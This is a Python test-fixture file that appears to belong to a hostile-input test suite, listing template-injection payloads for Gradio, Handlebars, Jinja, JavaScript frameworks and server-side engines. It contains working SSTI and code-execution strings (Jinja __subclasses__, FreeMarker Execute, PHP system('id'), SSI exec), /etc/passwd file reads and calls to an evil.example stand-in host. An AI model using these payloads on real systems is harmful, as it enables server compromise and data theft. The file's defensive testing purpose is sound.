"""Template languages of pages and servers, that of the page's own framework first."""

# ruff: noqa: E501 (strings stay whole)
from __future__ import annotations

from tests.hostile.markup import RUN

TEMPLATES: dict[str, tuple[str, ...]] = {
    "gradio": (
        f"${{{RUN}}}", f"`${{{RUN}}}`", "${value}", "${value.x.y}", "${(() => { window.hacked=1; return '' })()}", "{{value}}", "{{{value}}}",
        "{{#each value}}{{this}}{{/each}}", "{{#if value}}yes{{/if}}", "{{@root.value}}", "@children", "@children@children", "${'@children'}",
        "element.innerHTML", "trigger('submit')", "props.value=1", "/gradio_api/file=/etc/passwd", "/gradio_api/upload", "gradio_app()",
        '{"__type__":"update","value":"planted"}', '{"path":"/etc/passwd","meta":{"_type":"gradio.FileData"}}', "<gradio-app src=//evil.example></gradio-app>",
        "$$\\alert$$", "__lucide__", "<nq-turn>", "data-testid",
    ),
    "handlebars": (
        "{{#with this}}{{lookup . 'constructor'}}{{/with}}", "{{#with 'x' as |s|}}{{s.sub.constructor}}{{/with}}", "{{this.__proto__}}",
        "{{> partial}}", "{{! comment }}", "{{!-- comment --}}", "{{{{raw}}}} {{x}} {{{{/raw}}}}", "{{~trim~}}", "{{helper arg key=value}}",
        "{{&amp}}", "{{else}}", "{{/if}}", "{{", "}}", "{{{", "}}}", "{{}}",
    ),
    "jinja": (
        "{{ 7*7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for x in y %}{{ x }}{% endfor %}",
        "{% include '/etc/passwd' %}", "{% raw %}{{ x }}{% endraw %}", "{% endblock %}", "{# comment #}", "{{ x|safe }}", "{{ request.application }}",
        "{%- set a = 1 -%}{{ a }}", "{% autoescape false %}<b>x</b>{% endautoescape %}", "{{ cycler.__init__ }}", "{%", "%}", "{#", "#}",
    ),
    "framework": (
        "{{constructor.constructor('window.hacked=1')()}}", "<div ng-app ng-csp>{{$eval('1')}}</div>", "<div v-html=\"'<b>x</b>'\">v</div>",
        "<p v-on:click=x @click=y :title=z>v</p>", "{{_c.constructor('window.hacked=1')()}}", "{@html '<b>x</b>'}", "{#if true}x{/if}",
        "<div x-data x-init=window.hacked=1>", "<div hx-get=//evil.example hx-trigger=load>", "<dom-bind><template>[[x]]</template></dom-bind>",
        "[[constructor]]", "dangerouslySetInnerHTML={{__html:'<b>x</b>'}}", "<div data-bind=\"text: window.hacked=1\">k</div>",
        "<div data-on-load=window.hacked=1>d</div>", "${{github.token}}",
    ),
    "server": (
        "<?php system('id') ?>", "<%= 7*7 %>", "<% require 'x' %>", "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}",
        "#set($x=1)$x", "#{7*7}", "*{7*7}", "~{x}", "@{x}", "%{7*7}", "@(7*7)", "{{. | html}}", "{php}echo 1;{/php}", "<!--#exec cmd='id'-->",
        "<!--#include virtual='/etc/passwd'-->", "<esi:include src=//evil.example/ />", "<xsl:value-of select='x'/>", "{0.__class__}", "{0}", "{name!r:>99}",
        "%s%n%x", "%(name)s", "%99999d", "$name ${name} $$", "{system.exit}", "th:utext=${x}", "[(${x})] [[${x}]]", "<c:out value=x />", "=~/x/e",
    ),
}  # fmt: skip
